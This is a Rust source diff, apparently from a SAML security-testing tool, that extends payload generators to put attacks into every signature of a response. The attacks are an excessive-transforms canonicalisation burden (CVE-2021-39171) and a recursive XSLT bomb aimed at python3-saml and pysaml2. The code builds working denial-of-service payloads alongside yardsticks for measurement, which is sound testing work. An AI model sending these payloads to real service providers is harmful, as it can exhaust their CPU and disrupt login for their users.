@@ -10,6 +10,7 @@ use saml_protocol::{ASSERTION_NS, DSIG_NS, EXC_C14N};
 
 use crate::bytes::{self, Doc, Node};
 use crate::check::Burden;
+use crate::family::dsig::XSLT_TRANSFORM;
 use crate::forge::{Forge, Skip};
 
 /// The line feeds the deflate bomb puts before the response: 32 MiB, three times the largest
@@ -93,110 +94,108 @@ pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
     })
 }
 
-/// The IdP's own response with [`TRANSFORMS`] exclusive-C14N transforms in the Reference of
-/// the Assertion's signature (the Response's, when only it is signed) and a
-/// [`TRANSFORMS_PADDING`]-character claim in the signed element. The signature no longer
-/// verifies, but a verifier that runs a Reference's transforms before it checks the
-/// SignatureValue canonicalises the large element once per transform first (passport-saml
-/// < 3.1.0 CVE-2021-39171, through xml-crypto; libxmlsec1 runs them too). The yardstick is the
-/// same response and claim with its own transforms, padded with spaces to the same length.
+/// The IdP's own response with [`TRANSFORMS`] exclusive-C14N transforms in the References of
+/// its signatures (shared between the Response's and the Assertion's when both are signed,
+/// so the message stays under a 512 KiB form limit) and a [`TRANSFORMS_PADDING`]-character
+/// claim in the Assertion. The signatures no longer verify, but a verifier that runs a
+/// Reference's transforms before it checks the SignatureValue canonicalises the large
+/// element once per transform first (passport-saml < 3.1.0 CVE-2021-39171, through
+/// xml-crypto; libxmlsec1 runs them too). The yardstick is the same response and claim with
+/// only its own transforms, padded with spaces to the same length.
 pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
     let doc = Doc::parse(f.seed)?;
-    let (signed, transforms) = signed_transforms(&doc)?;
-    let transform = bytes::child(transforms, DSIG_NS, "Transform")
-        .ok_or_else(|| Skip::NotApplicable("the signature's Reference has no Transform".into()))?;
-    let extra = format!(
-        "<{} Algorithm=\"{EXC_C14N}\"/>",
-        bytes::qualified_name(doc.src, transform)
+    let signed = signed_transforms(&doc)?;
+    let (at_claim, claim) = padding_claim(&doc, doc.assertion()?)?;
+    let each = TRANSFORMS / signed.len();
+    let (mut burden, mut yardstick, mut shown) = (
+        vec![bytes::insert(at_claim, claim.clone())],
+        vec![bytes::insert(at_claim, claim)],
+        vec![bytes::insert(
+            at_claim,
+            format!("<!-- a claim of {TRANSFORMS_PADDING} characters -->"),
+        )],
     );
-    let own = transforms.children().filter(|n| n.is_element()).count();
-    let added = TRANSFORMS.saturating_sub(own);
-    let at_transforms = bytes::before_end_tag(doc.src, transforms);
-    let (at_claim, claim) = padding_claim(&doc, signed)?;
-    let burden = bytes::splice(
-        doc.src,
-        vec![
-            bytes::insert(at_claim, claim.clone()),
-            bytes::insert(at_transforms, extra.repeat(added)),
-        ],
-    );
-    let yardstick = bytes::splice(
-        doc.src,
-        vec![
-            bytes::insert(at_claim, claim),
-            bytes::insert(at_transforms, " ".repeat(extra.len() * added)),
-        ],
-    );
-    let shown = bytes::splice(
-        doc.src,
-        vec![
-            bytes::insert(
-                at_claim,
-                format!("<!-- a claim of {TRANSFORMS_PADDING} characters -->"),
-            ),
-            bytes::insert(at_transforms, format!("<!-- {added} more: {extra} -->")),
-        ],
-    );
+    for transforms in signed {
+        let extra = format!(
+            "<{}Transform Algorithm=\"{EXC_C14N}\"/>",
+            ds_prefix(&doc, transforms)
+        );
+        let own = transforms.children().filter(|n| n.is_element()).count();
+        let added = each.saturating_sub(own);
+        let at = bytes::before_end_tag(doc.src, transforms);
+        burden.push(bytes::insert(at, extra.repeat(added)));
+        yardstick.push(bytes::insert(at, " ".repeat(extra.len() * added)));
+        shown.push(bytes::insert(at, format!("<!-- {added} more: {extra} -->")));
+    }
     Ok(Burden {
-        encoded: encoded(&burden),
-        shown,
-        yardstick: encoded(&yardstick),
+        encoded: encoded(bytes::splice(doc.src, burden)),
+        shown: bytes::splice(doc.src, shown),
+        yardstick: encoded(bytes::splice(doc.src, yardstick)),
         yardstick_is: "the same-size response with only its own transforms",
     })
 }
 
-/// The element whose signature a verifier checks first (the Assertion, or the Response when
-/// only it is signed) and the Transforms of that signature's Reference.
-fn signed_transforms<'a, 'i>(doc: &'a Doc<'i>) -> Result<(Node<'a, 'i>, Node<'a, 'i>), Skip> {
-    let signed = doc
-        .assertion()
-        .ok()
-        .filter(|a| bytes::signature_of(*a).is_some())
-        .or_else(|| Some(doc.root()).filter(|r| bytes::signature_of(*r).is_some()))
-        .ok_or_else(|| {
-            Skip::NotApplicable("neither the Assertion nor the Response is signed".into())
-        })?;
-    let transforms = bytes::signature_of(signed)
-        .and_then(|s| {
+/// The Transforms of every enveloped signature on the Response and its Assertion.
+fn signed_transforms<'a, 'i>(doc: &'a Doc<'i>) -> Result<Vec<Node<'a, 'i>>, Skip> {
+    let transforms: Vec<_> = std::iter::once(doc.root())
+        .chain(doc.assertion().ok())
+        .filter_map(bytes::signature_of)
+        .filter_map(|s| {
             s.descendants()
                 .find(|n| n.has_tag_name((DSIG_NS, "Transforms")))
         })
-        .ok_or_else(|| Skip::NotApplicable("the signature's Reference has no Transforms".into()))?;
-    Ok((signed, transforms))
+        .collect();
+    if transforms.is_empty() {
+        return Err(Skip::NotApplicable(
+            "neither the Response nor the Assertion has a signature with Transforms".into(),
+        ));
+    }
+    Ok(transforms)
 }
 
-/// The XSLT transform's algorithm URI.
-const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
+/// The prefix (with its colon, or nothing) `transforms` is written with: in scope for a
+/// Transform added inside it.
+fn ds_prefix<'a>(doc: &Doc<'a>, transforms: Node) -> &'a str {
+    bytes::qualified_name(doc.src, transforms)
+        .strip_suffix("Transforms")
+        .unwrap_or_default()
+}
 
-/// The depth of the XSLT bomb's recursion: 2^22 template calls, about 3.4 s in libxslt 1.1.35
-/// (`xmlsec1 --verify`, this machine), each level more doubling it.
+/// The depth of the XSLT bomb's recursion: 2^23 - 1 template calls, about 3.4 s in libxslt
+/// 1.1.35 (`xmlsec1 --verify`, this machine), each level more doubling it.
 pub const XSLT_DEPTH: u32 = 22;
 
-/// An XSLT transform (after the Reference's own) whose template calls itself twice per level,
-/// [`XSLT_DEPTH`] levels deep: no output and no fetch, only CPU. The signature no longer
-/// verifies, but libxmlsec1 runs a Reference's transforms before it checks the
-/// SignatureValue, and an SP that does not allow-list them runs this one (python3-saml
-/// GHSA-8mmq-f9vf-8fg2, pysaml2 GHSA-6qg6-h5xq-x84c, both open). The yardstick is the same
-/// stylesheet called zero levels deep.
+/// An XSLT transform (after each Reference's own, in every signature) whose template calls
+/// itself twice per level, [`XSLT_DEPTH`] levels deep: no output and no fetch, only CPU. The
+/// signatures no longer verify, but libxmlsec1 runs a Reference's transforms before it
+/// checks the SignatureValue, and an SP that does not allow-list them runs this one
+/// (python3-saml GHSA-8mmq-f9vf-8fg2, pysaml2 GHSA-6qg6-h5xq-x84c, both open). The yardstick
+/// is the same stylesheet called zero levels deep.
 pub fn xslt_bomb(f: &Forge) -> Result<Burden, Skip> {
     let doc = Doc::parse(f.seed)?;
-    let (_, transforms) = signed_transforms(&doc)?;
-    let tag = bytes::qualified_name(doc.src, transforms);
-    let ds = tag.strip_suffix("Transforms").unwrap_or_default();
-    let at = bytes::before_end_tag(doc.src, transforms);
-    let with_depth = |depth: String| {
-        let xslt = format!(
-            "<{ds}Transform Algorithm=\"{XSLT}\"><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"{depth}\"/></xsl:call-template></xsl:template><xsl:template name=\"twice\"><xsl:param name=\"n\"/><xsl:if test=\"$n &gt; 0\"><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template></xsl:if></xsl:template></xsl:stylesheet></{ds}Transform>"
-        );
-        bytes::splice(doc.src, vec![bytes::insert(at, xslt)])
+    let signed = signed_transforms(&doc)?;
+    let with_depth = |depth: &str| {
+        let edits = signed
+            .iter()
+            .map(|&transforms| {
+                let ds = ds_prefix(&doc, transforms);
+                bytes::insert(
+                    bytes::before_end_tag(doc.src, transforms),
+                    format!(
+                        "<{ds}Transform Algorithm=\"{XSLT_TRANSFORM}\"><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"{depth}\"/></xsl:call-template></xsl:template><xsl:template name=\"twice\"><xsl:param name=\"n\"/><xsl:if test=\"$n &gt; 0\"><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template></xsl:if></xsl:template></xsl:stylesheet></{ds}Transform>"
+                    ),
+                )
+            })
+            .collect();
+        bytes::splice(doc.src, edits)
     };
     let depth = XSLT_DEPTH.to_string();
-    let burden = with_depth(depth.clone());
+    let burden = with_depth(&depth);
     let zero = format!("{:<width$}", "0", width = depth.len());
     Ok(Burden {
         encoded: encoded(&burden),
-        shown: burden.clone(),
-        yardstick: encoded(with_depth(zero)),
+        shown: burden,
+        yardstick: encoded(with_depth(&zero)),
         yardstick_is: "the same-size response with the stylesheet called zero levels deep",
     })
 }
@@ -264,10 +263,10 @@ pub fn many_attributes(f: &Forge) -> Result<Burden, Skip> {
     })
 }
 
-/// A claim of [`TRANSFORMS_PADDING`] characters at the end of the AttributeStatement of
-/// `signed`, written with the prefixes of the statement's first claim: where, and what.
-fn padding_claim(doc: &Doc, signed: Node) -> Result<(usize, String), Skip> {
-    let statement = signed
+/// A claim of [`TRANSFORMS_PADDING`] characters at the end of `assertion`'s
+/// AttributeStatement, written with the prefixes of its first claim: where, and what.
+fn padding_claim(doc: &Doc, assertion: Node) -> Result<(usize, String), Skip> {
+    let statement = assertion
         .descendants()
         .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeStatement")))
         .ok_or_else(|| {
@@ -399,7 +398,7 @@ mod tests {
                 .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
                 .map(|n| n.attribute("Algorithm").unwrap_or_default().to_owned())
                 .collect::<Vec<_>>();
-            assert_eq!(transforms.last().map(String::as_str), Some(XSLT));
+            assert_eq!(transforms.last().map(String::as_str), Some(XSLT_TRANSFORM));
             doc.descendants()
                 .find(|n| n.tag_name().name() == "with-param")
                 .and_then(|n| n.attribute("select"))
@@ -433,6 +432,23 @@ mod tests {
         assert_eq!(attributes(&burden.encoded), ATTRIBUTES);
         assert_eq!(attributes(&burden.yardstick), 1);
         assert!(burden.shown.len() < 2048, "{}", burden.shown);
+    }
+
+    #[test]
+    fn a_response_signed_twice_gets_its_burden_in_both_signatures() {
+        let response_signature = r##"<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_r"><Transforms><Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></Transforms></Reference></SignedInfo></Signature>"##;
+        let both = SIGNED.replacen("ID=\"_r\">", &format!("ID=\"_r\">{response_signature}"), 1);
+        let burden = many_transforms(&forge(&both)).unwrap();
+        assert_eq!(shape(&burden.encoded), (TRANSFORMS, TRANSFORMS_PADDING));
+        assert_eq!(burden.yardstick.len(), burden.encoded.len());
+        let bomb = xslt_bomb(&forge(&both)).unwrap();
+        let xml = String::from_utf8(
+            base64::engine::general_purpose::STANDARD
+                .decode(&bomb.encoded)
+                .unwrap(),
+        )
+        .unwrap();
+        assert_eq!(xml.matches(XSLT_TRANSFORM).count(), 2);
     }
 
     #[test]
